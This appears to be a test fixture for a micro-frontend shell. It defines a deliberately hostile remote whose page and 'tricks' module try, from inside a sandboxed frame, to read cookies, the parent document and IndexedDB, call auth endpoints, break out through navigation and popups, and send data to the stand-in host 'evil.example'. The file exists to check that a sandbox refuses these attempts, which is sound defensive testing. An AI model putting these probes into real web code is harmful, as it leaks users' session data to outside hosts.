import { packageOf } from './copies.ts';

/** A remote that tries, in its frame, what its declaration does not name. */
export const hostileRemote: Record<string, string> = {
  'package.json': packageOf('@counsel/mfe-hostile'),
  'remote.config.ts': `export default {
  name: 'hostile',
  routes: [{ path: '/hostile', page: 'hostile', title: 'Hostile', access: 'anyone' }],
  navigation: [],
  tour: [],
  roles: ['user'],
  calls: ['listCategories'],
  hosts: [],
};
`,
  'src/remote.ts': `import { defineRemote } from '@counsel/shell-sdk';
export default defineRemote({
  contract: '^1.0.0',
  pages: { hostile: () => import('./hostile/Page.tsx') },
});
`,
  'src/hostile/Page.tsx': `import { Button, Dialog, Heading, Text } from '@counsel/design-system';
import { api, useSession } from '@counsel/shell-sdk';
import { useState } from 'react';
import { tricks } from './tricks.ts';

export default function Page() {
  const { user, roles } = useSession();
  const categories = api.useListCategoriesQuery();
  const [submit] = api.useSubmitQuestionMutation();
  const [logout] = api.useLogoutMutation();
  const [done, setDone] = useState<Record<string, string> | null>(null);
  const act = async () => {
    const found = await tricks();
    const body = { categoryId: 1, title: 'Asked by nobody at all', content: 'x'.repeat(60), isAnonymous: true };
    const asked = await submit({ body });
    const out = await logout();
    setDone({ ...found, submit: String(asked.error?.message), logout: String(out.error?.message) });
  };
  return (
    <>
      <Heading level={1}>Hostile</Heading>
      <Text>{categories.data?.map(({ name }) => name).join(', ')}</Text>
      <output aria-label="Reader">{JSON.stringify({ user, roles })}</output>
      <Button onClick={() => void act()}>Attack</Button>
      <Dialog title="Sure?" trigger={<Button>Ask</Button>} />
      <Button onClick={() => location.assign('/settings')}>Show the Portal</Button>
      <Button onClick={() => location.assign('https://evil.example/?stolen')}>Leave</Button>
      <output aria-label="Done">{done && JSON.stringify(done)}</output>
    </>
  );
}
`,
  'src/hostile/tricks.ts': `const tried = async (attempt: () => unknown): Promise<string> => {
  try {
    return 'done: ' + String(await attempt());
  } catch (error) {
    return 'refused: ' + (error as Error).name;
  }
};

const arrives = (element: HTMLElement, address: string) =>
  new Promise((resolve, reject) => {
    element.onload = resolve;
    element.onerror = () => reject(new TypeError('blocked'));
    element.setAttribute('src', address);
    document.body.append(element);
  });

const asked = (url: string) =>
  new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = () => reject(new TypeError('blocked'));
    request.open('POST', url);
    request.send('{}');
  });

const works = (address: string) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(address);
    worker.onmessage = resolve;
    worker.onerror = () => reject(new TypeError('blocked'));
  });

/** What each gave, by name. */
export const tricks = async (): Promise<Record<string, string>> => ({
  parent: await tried(() => parent.document.title),
  cookie: await tried(() => document.cookie),
  database: await tried(() => indexedDB.open('counsel')),
  fetch: await tried(() => fetch('/api/auth/user')),
  registry: await tried(() => fetch('/remotes/registry.json')),
  xhr: await tried(() => asked('/api/auth/logout')),
  elsewhere: await tried(() => fetch('https://evil.example/?stolen')),
  image: await tried(() => arrives(new Image(), 'https://evil.example/?stolen')),
  script: await tried(() => arrives(document.createElement('script'), '/remotes/registry.json')),
  worker: await tried(() => works(URL.createObjectURL(new Blob(['postMessage(1)'])))),
  top: await tried(() => {
    top!.location.href = '/settings';
  }),
  popup: await tried(() => window.open('https://evil.example/')!.name),
});
`,
};
